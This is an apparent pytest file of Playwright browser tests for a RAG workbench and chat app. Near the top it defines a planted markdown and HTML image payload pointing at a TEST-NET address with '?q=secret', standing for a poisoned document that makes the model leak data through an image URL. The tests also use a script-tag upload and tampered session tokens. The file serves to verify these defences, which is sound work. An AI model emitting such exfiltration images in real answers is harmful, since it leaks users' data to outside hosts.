"""End-to-end browser tests: Playwright drives Debian's chromium against real ``ladder ui`` and
``ladder chat-ui`` servers (started once for the module, fake backend). They click through the
main flows and save a screenshot of every page to tests/ui/screenshots/ (ignored by git).

Every request a page makes is recorded, and every test fails if one left the machine (a
``:material/...:`` page icon fetched from fonts.gstatic.com, an image in a model's answer).

Skipped, with the reason, when playwright or /usr/bin/chromium is missing (``make test``
installs both when it can: playwright from the dev extras, chromium with apt as root).
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import time
import urllib.parse
import urllib.request
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest

from tests.ui.helpers import REPO, write_suite

CHROMIUM = Path(os.environ.get("LADDER_CHROMIUM", "/usr/bin/chromium"))
# An address in TEST-NET-2 (RFC 5737): nothing answers there, but the browser's request is seen.
EXFIL = "http://198.51.100.7/exfil.png?q=secret"
PLANTED = f" ![logo]({EXFIL}) <img src='{EXFIL}&html'>"
SHOTS = Path(__file__).resolve().parent / "screenshots"
TIMEOUT_MS = 60_000

try:
    import playwright.sync_api as pw
except ImportError:  # pragma: no cover - depends on the machine
    pw = None  # type: ignore[assignment]

pytestmark = [
    pytest.mark.skipif(pw is None, reason="playwright is not installed (pip install -e '.[dev]')"),
    pytest.mark.skipif(
        not CHROMIUM.is_file(), reason=f"{CHROMIUM} is missing (apt-get install -y chromium fonts-noto-cjk)"
    ),
]


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def _serve_all(
    servers: list[tuple[list[str], Path]], env: dict[str, str]
) -> list[tuple[subprocess.Popen[bytes], str]]:
    """Start every server at once (``ladder ui`` / ``ladder chat-ui``), then wait for each."""
    ladder = Path(sys.executable).with_name("ladder")
    started = []
    for args, log in servers:
        port = _free_port()
        process = subprocess.Popen(
            [str(ladder), *args, "--port", str(port)], env=env, stdout=log.open("wb"),
            stderr=subprocess.STDOUT, cwd=env["LADDER_TEST_CWD"],
        )  # fmt: skip
        started.append((process, f"http://127.0.0.1:{port}", log))
    deadline = time.time() + 90
    for process, url, log in started:
        while not _healthy(url):
            if time.time() > deadline or process.poll() is not None:
                for other, _, _ in started:
                    other.kill()
                raise RuntimeError(f"server did not start: {log.read_text(errors='replace')[-2000:]}")
            time.sleep(0.3)
    return [(process, url) for process, url, _ in started]


def _stop_all(processes: Sequence[subprocess.Popen[bytes]]) -> None:
    """Stop servers started by ``_serve_all``: terminate, then kill what has not ended in 10 s."""
    for process in processes:
        process.terminate()
    for process in processes:
        try:
            process.wait(10)
        except subprocess.TimeoutExpired:
            process.kill()


def _healthy(url: str) -> bool:
    try:
        with urllib.request.urlopen(url + "/_stcore/health", timeout=1) as reply:
            return bool(reply.status == 200)
    except OSError:
        return False


@pytest.fixture(scope="module")
def servers(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """A workbench and a chat server sharing one LADDER_HOME, with a knowledge base for the chat."""
    root = tmp_path_factory.mktemp("browser")
    home = root / "home"
    script = root / "reply.json"
    # A planted document could make the model write an image whose URL carries a secret.
    script.write_text(json.dumps({"default": "Employees get fifteen days of annual leave [1]." + PLANTED}))
    strategy = root / "chat_rag.yaml"  # BM25 retrieval: the chat server loads no embedding model
    strategy.write_text("strategy: rag\nmode: bm25\nmin_score: 0.1\n")
    env = {k: v for k, v in os.environ.items() if not k.startswith("LADDER_")}
    # Knowledge bases on the packaged MiniLM, as in every test (tests/conftest.py).
    env.update(LADDER_HOME=str(home), LADDER_TEST_CWD=str(root), LADDER_THREADS="1",
               LADDER_EMBEDDING_MODEL="all-MiniLM-L6-v2")  # fmt: skip
    chat_args = ["chat-ui", "--strategy", str(strategy), "--kb", "handbook", "--model", f"fake:{script}"]
    (workbench, workbench_url), (chat, chat_url) = _serve_all(
        [(["ui", "--model", "fake"], root / "ui.log"), (chat_args, root / "chat.log")], env
    )
    SHOTS.mkdir(exist_ok=True)
    yield {"root": root, "home": home, "ui": workbench_url, "chat": chat_url}
    _stop_all([workbench, chat])


@pytest.fixture(scope="module")
def browser(servers: dict[str, Any]) -> Iterator[Any]:
    assert pw is not None
    with pw.sync_playwright() as playwright:
        chromium = playwright.chromium.launch(
            executable_path=str(CHROMIUM), args=["--no-sandbox", "--disable-dev-shm-usage"]
        )
        yield chromium
        chromium.close()


def _local(url: str) -> bool:
    parsed = urllib.parse.urlsplit(url)
    return parsed.scheme in ("data", "blob", "about") or parsed.hostname in ("127.0.0.1", "localhost", "::1")


def _record_requests(context: Any) -> list[str]:
    """Every URL any page of ``context`` asks for (documents, scripts, fonts, images, icons)."""
    urls: list[str] = []
    context.on("request", lambda request: urls.append(request.url))
    return urls


def _assert_stayed_local(urls: list[str]) -> None:
    assert urls, "no request was recorded"
    assert [url for url in urls if not _local(url)] == []


@pytest.fixture
def page(browser: Any) -> Iterator[Any]:
    context = browser.new_context(viewport={"width": 1400, "height": 1000}, locale="en-US")
    urls = _record_requests(context)
    tab = context.new_page()
    tab.set_default_timeout(TIMEOUT_MS)
    tab.requests = urls
    yield tab
    time.sleep(0.5)  # what the last draw asked for
    context.close()
    _assert_stayed_local(urls)


def _open(page: Any, url: str) -> None:
    page.goto(url)
    page.get_by_test_id("stApp").wait_for()
    page.wait_for_selector('[data-testid="stStatusWidget"]', state="detached", timeout=TIMEOUT_MS)
    page.get_by_role("heading").first.wait_for()


def _settled(page: Any, timeout_s: float = 20.0) -> None:
    """Wait until the script has finished and every lazily loaded element (tables, charts,
    metrics) has replaced its skeleton, with no stale element left from an earlier run."""
    time.sleep(0.3)
    deadline = time.time() + timeout_s
    busy = '[data-testid="stSkeleton"], [data-stale="true"], [data-testid="stStatusWidget"]'
    while time.time() < deadline and page.locator(busy).count():
        time.sleep(0.2)
    time.sleep(0.3)


def _shot(page: Any, name: str) -> Path:
    """The whole page: Streamlit scrolls inside its main block, so the viewport is grown to fit."""
    _settled(page)
    height = page.evaluate(
        "Math.max(...[...document.querySelectorAll('[data-testid=stMain], section')]"
        ".map(e => e.scrollHeight))"
    )
    size = page.viewport_size
    grown = min(max(int(height), size["height"]), 4000)
    if grown != size["height"]:
        page.set_viewport_size({"width": size["width"], "height": grown})
        _settled(page, 5)
    path = SHOTS / f"{name}.png"
    page.screenshot(path=str(path))
    page.set_viewport_size(size)
    return path


def test_workbench_knowledge_base_create_and_upload(page: Any, servers: dict[str, Any]) -> None:
    _open(page, servers["ui"] + "/knowledge")
    page.get_by_text("No knowledge base yet").wait_for()
    page.get_by_label("Name (letters, digits, - _ .)").fill("handbook")
    page.get_by_role("button", name="Create").click()
    page.get_by_text("Created knowledge base handbook").wait_for()
    doc = servers["root"] / "leave_policy.md"
    doc.write_text("# Leave\n\nEmployees get fifteen days of annual leave. <script>alert('x')</script>\n")
    bad = servers["root"] / "tool.exe"
    bad.write_bytes(b"MZ\x00")
    page.locator('input[type="file"]').set_input_files([str(doc), str(bad)])
    page.get_by_text("leave_policy.md").first.wait_for()
    page.get_by_role("button", name="Add to the knowledge base").click()
    page.get_by_text("tool.exe: refused, unsupported type").wait_for()
    page.get_by_text("Ingest report").wait_for(timeout=120_000)
    _shot(page, "knowledge_upload")
    page.get_by_role("tab", name="Options").click()  # BM25: this server need not load the embedding model
    page.get_by_label("Mode").click()
    page.get_by_role("option", name="bm25").click()
    page.get_by_role("tab", name="Search").click()
    page.get_by_label("Search the knowledge base").fill("annual leave")
    page.keyboard.press("Enter")
    page.get_by_text("leave_policy.md · #0").first.wait_for()
    _shot(page, "knowledge_search")


def test_workbench_playground(page: Any, servers: dict[str, Any]) -> None:
    _open(page, servers["ui"] + "/playground")
    page.get_by_label("Question").fill("What does <b>Ladder</b> decide?" + PLANTED)
    # prompt and reflection side by side (rag is exercised by the chat test)
    page.get_by_role("button", name="Remove rag").click()
    page.get_by_label("Strategies").click()
    page.get_by_role("option", name="reflection").click()
    page.keyboard.press("Escape")
    page.get_by_role("button", name="Ask").click()
    page.get_by_text("[fake] What does <b>Ladder</b> decide?").first.wait_for()
    assert page.locator("b", has_text="Ladder").count() == 0  # shown as text, not HTML
    _shot(page, "playground")
    answer = page.get_by_test_id("stMarkdownContainer").filter(has_text="[fake] What does").first
    assert answer.locator("img").count() == 0 and "!logo" in answer.inner_text()
    assert answer.locator("a[href*='198.51.100.7']").count() >= 1  # links at most: fetched only if clicked
    assert [url for url in page.requests if "198.51.100.7" in url] == []


def test_workbench_evaluate(page: Any, servers: dict[str, Any]) -> None:
    suite = write_suite(servers["root"] / "suites")
    _open(page, servers["ui"] + "/evaluate")
    page.get_by_label("…or a suite file path").fill(str(suite))
    page.get_by_role("button", name="Run in the background").click()
    page.get_by_text("is complete: see the Results tab").wait_for(timeout=120_000)
    _shot(page, "evaluate_run")
    page.get_by_role("tab", name="Results").click()
    page.get_by_text("Worst items first").wait_for()
    _shot(page, "evaluate_results")


def test_chat_thumbs_down_with_correction_reaches_the_review_queue(
    page: Any, servers: dict[str, Any]
) -> None:
    _open(page, servers["chat"])
    page.get_by_text("Ask a question below").wait_for()
    page.get_by_test_id("stChatInputTextArea").fill("How many days of annual leave?")
    page.keyboard.press("Enter")
    page.get_by_text("Employees get fifteen days of annual leave [1].").first.wait_for()
    page.get_by_text("[1] leave_policy.md").wait_for()
    _shot(page, "chat_answer")
    assert page.get_by_test_id("stChatMessage").locator("img[src*='198.51.100.7']").count() == 0
    assert [url for url in page.requests if "198.51.100.7" in url] == []
    page.get_by_test_id("stFeedback").locator("button").nth(1).click()  # thumbs down
    page.get_by_label("What would the right answer be? (optional)").fill("Fifteen working days per year.")
    page.get_by_role("button", name="Send feedback").click()
    page.get_by_text("Thank you, your feedback was recorded.").wait_for()
    _shot(page, "chat_feedback")
    other = page.context.browser.new_context().new_page()  # another browser session: its own history
    _open(other, servers["chat"])
    other.get_by_text("Ask a question below").wait_for()
    assert other.get_by_test_id("stChatMessage").count() == 0
    other.context.close()
    _open(page, servers["ui"] + "/feedback")
    page.get_by_text("How many days of annual leave?").first.wait_for()  # the only item: open
    page.get_by_text("Fifteen working days per year.").first.wait_for()
    _shot(page, "feedback_queue")


def test_workbench_decide_shows_the_verdict_with_charts(page: Any, servers: dict[str, Any]) -> None:
    from tests.helpers.decide import rung, write_config

    folder = servers["root"] / "decision"
    folder.mkdir()
    config = write_config(folder, n_dev=8, n_test=4, rungs=[rung("prompt"), rung("reflection")])
    _open(page, servers["ui"])
    page.get_by_label("…or a config file path").fill(str(config))
    page.keyboard.press("Enter")
    page.get_by_role("button", name="Decide in the background").click()
    page.get_by_text("The decision is ready").wait_for(timeout=120_000)
    page.get_by_role("tab", name="Past decisions").click()
    page.get_by_text("Export the HTML report").wait_for()
    _shot(page, "decide_verdict")


def test_chat_app_cannot_reach_workbench_pages(page: Any, servers: dict[str, Any]) -> None:
    for path in ("knowledge", "settings", "feedback"):
        _open(page, f"{servers['chat']}/{path}")
        if path == "knowledge":
            _shot(page, "chat_blocks_workbench_page")
        page.get_by_role("heading", name="Ask the assistant").wait_for()
        for label in ("Knowledge base", "Settings", "Evaluate", "Review"):
            assert page.get_by_role("heading", name=label, exact=True).count() == 0
        assert page.get_by_test_id("stSidebarNav").count() == 0


@pytest.mark.parametrize("name", ["decide", "finetune", "settings", "feedback", "monitor"])
def test_every_workbench_page_renders(page: Any, servers: dict[str, Any], name: str) -> None:
    _open(page, f"{servers['ui']}/{'' if name == 'decide' else name}")  # Decide is the home page
    assert page.get_by_test_id("stException").count() == 0
    _shot(page, name)


def test_chinese_pages(page: Any, servers: dict[str, Any]) -> None:
    _open(page, servers["ui"] + "/knowledge")
    page.get_by_text("中文").click()
    page.get_by_role("heading", name="知识库").first.wait_for()
    _shot(page, "knowledge_zh")
    for name, title in (("evaluate", "评测"),):
        page.get_by_role("link", name=title).first.click()
        page.get_by_role("heading", name=title).first.wait_for()
        _shot(page, f"{name}_zh")


def test_screenshots_exist() -> None:
    if not SHOTS.is_dir():
        pytest.skip("no screenshots taken")
    assert shutil.which("true") is not None
    assert any(SHOTS.glob("*.png")), REPO


def test_with_a_password_a_fresh_server_serves_only_the_login(
    browser: Any, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """Straight to a page's URL on a server no one has used yet: still only the login. Once
    signed in, a reload (on any page) stays signed in; a tampered token does not. The chat
    asks for the same password. The home is new: Decide says what to do first."""
    from ui.auth import hash_password

    root = tmp_path_factory.mktemp("locked")
    env = {k: v for k, v in os.environ.items() if not k.startswith("LADDER_")}
    env.update(
        LADDER_HOME=str(root / "home"),
        LADDER_TEST_CWD=str(root),
        LADDER_UI_PASSWORD_HASH=hash_password("open sesame, please"),
    )
    chat_args = ["chat-ui", "--strategy", "prompt", "--model", "fake"]
    [(server, url), (chat, chat_url)] = _serve_all(
        [(["ui", "--model", "fake"], root / "ui.log"), (chat_args, root / "chat.log")], env
    )
    context = browser.new_context(viewport={"width": 1200, "height": 800}, locale="en-US")
    urls = _record_requests(context)
    page = context.new_page()
    page.set_default_timeout(TIMEOUT_MS)
    try:
        for path in ("knowledge", "settings", ""):
            _open(page, f"{url}/{path}")
            page.get_by_role("heading", name="Sign in").first.wait_for()
            assert page.get_by_role("heading", name="Knowledge base").count() == 0
            assert page.get_by_test_id("stSidebarNav").count() == 0
        _shot(page, "login")
        page.get_by_label("Password", exact=True).fill("open sesame, please")
        page.get_by_role("button", name="Sign in").click()
        page.get_by_role("heading", name="Decide").first.wait_for()
        page.get_by_text("Getting started").wait_for()  # a new home: what to do first
        assert "ladder kb" not in page.get_by_test_id("stMain").inner_text()
        _shot(page, "decide_first_run")
        page.wait_for_url("**session=*")
        token = urllib.parse.parse_qs(urllib.parse.urlsplit(page.url).query)["session"][0]
        page.reload()
        page.get_by_role("heading", name="Decide").first.wait_for()
        page.get_by_role("link", name="Knowledge base").first.click()
        page.get_by_role("heading", name="Knowledge base").first.wait_for()
        page.wait_for_url("**/knowledge?session=*")
        page.reload()  # on another page, still signed in
        page.get_by_role("heading", name="Knowledge base").first.wait_for()
        assert page.get_by_role("heading", name="Sign in").count() == 0
        expires, nonce, signature = token.split(".")
        flipped = ("B" if signature[0] == "A" else "A") + signature[1:]
        for bad in (f"{int(expires) + 86400}.{nonce}.{signature}", f"{expires}.{nonce}.{flipped}"):
            _open(page, f"{url}/knowledge?session={bad}")
            page.get_by_role("heading", name="Sign in").first.wait_for()
        # The chat: the same password, a session of its own.
        _open(page, f"{chat_url}/?session={token}")
        page.get_by_role("heading", name="Sign in").first.wait_for()
        assert page.get_by_test_id("stChatInput").count() == 0
        page.get_by_label("Password", exact=True).fill("open sesame, please")
        page.get_by_role("button", name="Sign in").click()
        page.get_by_role("heading", name="Ask the assistant").first.wait_for()
        page.reload()
        page.get_by_role("heading", name="Ask the assistant").first.wait_for()
        page.get_by_test_id("stChatInput").wait_for()
        _shot(page, "chat_signed_in")
    finally:
        context.close()
        for process in (server, chat):
            process.terminate()
            process.wait(10)
    _assert_stayed_local(urls)
